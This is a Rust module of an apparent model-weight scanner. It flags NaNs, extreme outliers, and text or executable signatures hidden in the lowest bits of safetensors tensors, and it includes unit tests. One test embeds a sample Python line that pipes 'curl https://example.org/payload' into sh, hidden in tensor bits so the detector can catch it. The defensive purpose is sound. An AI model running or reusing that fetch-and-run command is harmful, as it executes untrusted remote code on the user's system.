//! What numbers tell: values that are none, values far beyond all others, and texts in their lowest bits.
//!
//! Nothing here runs. A tensor with such values is *suspicious*: the model may be broken, or changed by hand. The
//! bounds are set so that benign weights stay below them; how often they do not is measured in `bench/RESULTS.md`.

use proofhouse_core::Place;

use crate::scanner::Scanner;

/// How the elements of a tensor are stored, little-endian.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Float {
    /// IEEE 754 binary16.
    Half,
    /// The upper half of a binary32.
    Brain,
    /// IEEE 754 binary32.
    Single,
    /// IEEE 754 binary64.
    Double,
}

impl Float {
    /// The type of that name in safetensors.
    pub(crate) fn of_safetensors(name: &str) -> Option<Self> {
        Some(match name {
            "F16" => Self::Half,
            "BF16" => Self::Brain,
            "F32" => Self::Single,
            "F64" => Self::Double,
            _ => return None,
        })
    }

    const fn width(self) -> usize {
        match self {
            Self::Half | Self::Brain => 2,
            Self::Single => 4,
            Self::Double => 8,
        }
    }
}

/// What is odd about a tensor.
#[derive(Debug, Clone, PartialEq)]
enum Odd {
    /// So many elements are no numbers.
    NotANumber(usize),
    /// The largest magnitude, and the one in the middle.
    Outlier(f64, f64),
    /// The lowest bits of the elements hold this.
    LowBits(&'static str),
}

/// Reports what is odd about a tensor.
pub(crate) fn report(scanner: &mut Scanner<'_>, place: &Place, bytes: &[u8], float: Float) {
    for odd in odd(bytes, float) {
        let (rule, message) = match odd {
            Odd::NotANumber(count) => ("weights/not-a-number", format!("{count} elements are no numbers")),
            Odd::Outlier(largest, median) => {
                let message =
                    format!("an element has the magnitude {largest:e}, half of them have at most {median:e}");
                ("weights/outlier", message)
            }
            Odd::LowBits(what) => {
                ("weights/low-bits", format!("the lowest bits of its elements spell {what}"))
            }
        };
        scanner.report(rule, place.clone(), message);
    }
}

/// Elements that are looked at of one tensor, from its beginning: half a second for all of a large model.
const MAX_ELEMENTS: usize = 1 << 20;
/// Fewer elements are no distribution.
const MIN_ELEMENTS: usize = 256;
/// An outlier is so many times the median magnitude, and so large by itself.
const OUTLIER_RATIO: f64 = 1e7;
const OUTLIER_SIZE: f64 = 1e4;
/// Bytes that a text in the lowest bits has at least. Random bits are so many printable characters in a row less than
/// once in 10^26 tensors.
const TEXT_BYTES: usize = 64;

/// What is odd about the elements in `bytes`.
fn odd(bytes: &[u8], float: Float) -> Vec<Odd> {
    let mut out = Vec::new();
    let values: Vec<f64> =
        bytes.chunks_exact(float.width()).take(MAX_ELEMENTS).map(|c| value(c, float)).collect();
    let none = values.iter().filter(|v| v.is_nan()).count();
    if none > 0 {
        out.push(Odd::NotANumber(none));
    }
    if values.len() < MIN_ELEMENTS {
        return out;
    }
    let mut sizes: Vec<f64> = values.iter().map(|v| v.abs()).filter(|v| v.is_finite()).collect();
    let middle = sizes.len() / 2;
    if sizes.len() >= MIN_ELEMENTS {
        let (_, median, above) = sizes.select_nth_unstable_by(middle, f64::total_cmp);
        let (median, largest) = (*median, above.iter().copied().fold(0.0, f64::max));
        if median > 0.0 && largest > OUTLIER_SIZE && largest > OUTLIER_RATIO * median {
            out.push(Odd::Outlier(largest, median));
        }
    }
    out.extend(low_bits(bytes, float).map(Odd::LowBits));
    out
}

fn value(chunk: &[u8], float: Float) -> f64 {
    match (float, chunk) {
        (Float::Half, [a, b]) => half(u16::from_le_bytes([*a, *b])),
        (Float::Brain, [a, b]) => f64::from(f32::from_le_bytes([0, 0, *a, *b])),
        (Float::Single, [a, b, c, d]) => f64::from(f32::from_le_bytes([*a, *b, *c, *d])),
        (_, chunk) => chunk.first_chunk::<8>().map_or(0.0, |c| f64::from_le_bytes(*c)),
    }
}

fn half(bits: u16) -> f64 {
    let sign = if bits >> 15 == 1 { -1.0 } else { 1.0 };
    let (exponent, fraction) = (i32::from(bits >> 10 & 0x1f), f64::from(bits & 0x3ff));
    sign * match exponent {
        0 => fraction * 2f64.powi(-24),
        0x1f if fraction == 0.0 => f64::INFINITY,
        0x1f => f64::NAN,
        _ => (1.0 + fraction / 1024.0) * 2f64.powi(exponent - 15),
    }
}

/// What the lowest bit, or the lowest byte, of each element spells.
fn low_bits(bytes: &[u8], float: Float) -> Option<&'static str> {
    let lowest = || bytes.chunks_exact(float.width()).filter_map(|c| c.first().copied());
    let most = TEXT_BYTES * 8;
    let bits: Vec<u8> = lowest().take(most).map(|b| b & 1).collect();
    let pack = |high_first: bool| -> Vec<u8> {
        let byte = |c: &[u8]| {
            c.iter().enumerate().fold(0, |byte, (at, bit)| byte | bit << if high_first { 7 - at } else { at })
        };
        bits.chunks_exact(8).map(byte).collect()
    };
    // Every byte of a type of two bytes carries much of the value: only its lowest bit can hide something.
    let whole: Vec<u8> = if float.width() > 2 { lowest().take(most).collect() } else { Vec::new() };
    [pack(true), pack(false), whole].iter().find_map(|hidden| spelled(hidden))
}

fn spelled(hidden: &[u8]) -> Option<&'static str> {
    let text = hidden.get(..TEXT_BYTES)?;
    let printable = |b: &u8| (0x20..0x7f).contains(b) || matches!(b, b'\n' | b'\r' | b'\t');
    let kinds = text.iter().collect::<std::collections::BTreeSet<_>>().len();
    if kinds >= 8 && text.iter().all(printable) {
        return Some("a text");
    }
    let known: [(&[u8], &str); 4] = [
        (b"\x7fELF", "a program"),
        (b"PK\x03\x04", "an archive"),
        (b"\x1f\x8b\x08\x00", "a compressed stream"),
        (b"MZ\x90\0", "a program"),
    ];
    if let Some((_, what)) = known.iter().find(|(magic, _)| text.starts_with(magic)) {
        return Some(what);
    }
    // Four bytes of a size, then a text: how tools that hide files begin.
    let behind = text.get(4..)?;
    (kinds >= 8 && behind.iter().all(printable)).then_some("a size and a text")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Numbers as training leaves them, from a fixed generator.
    fn weights(count: usize) -> Vec<f32> {
        let mut state = 7u64;
        let mut uniform = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 11) as f32 / (1u64 << 53) as f32
        };
        (0..count).map(|_| (0..12).map(|_| uniform()).sum::<f32>() * 0.02 - 0.12).collect()
    }

    fn bytes(values: &[f32]) -> Vec<u8> {
        values.iter().flat_map(|v| v.to_le_bytes()).collect()
    }

    #[test]
    fn ordinary_weights_are_not_odd() {
        let values = weights(10_000);
        assert_eq!(odd(&bytes(&values), Float::Single), []);
        let brain: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()[2..].to_vec()).collect();
        assert_eq!(odd(&brain, Float::Brain), []);
        // Widened from two bytes: the lowest are all zero.
        let widened: Vec<u8> = brain.chunks(2).flat_map(|c| [0, 0, c[0], c[1]]).collect();
        assert_eq!(odd(&widened, Float::Single), []);
        assert_eq!(odd(&bytes(&[1.0; 1000]), Float::Single), []);
        assert_eq!(odd(&[0; 4000], Float::Double), []);
        assert!((half(0x3c01) - 1.000_976_562_5).abs() < 1e-12 && half(0x7e00).is_nan());
    }

    #[test]
    fn what_was_put_in_is_told() {
        let mut values = weights(10_000);
        values[77] = f32::NAN;
        values[99] = 1e9;
        let found = odd(&bytes(&values), Float::Single);
        assert!(matches!(found[..], [Odd::NotANumber(1), Odd::Outlier(..)]), "{found:?}");

        let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
        let mut hidden = bytes(&weights(10_000));
        for (at, bit) in text.iter().flat_map(|b| (0..8).rev().map(move |i| b >> i & 1)).enumerate() {
            hidden[4 * at] = hidden[4 * at] & !1 | bit;
        }
        assert_eq!(odd(&hidden, Float::Single), [Odd::LowBits("a text")]);
        let mut whole = bytes(&weights(10_000));
        for (at, byte) in text.iter().enumerate() {
            whole[4 * at] = *byte;
        }
        assert_eq!(odd(&whole, Float::Single), [Odd::LowBits("a text")]);
    }
}
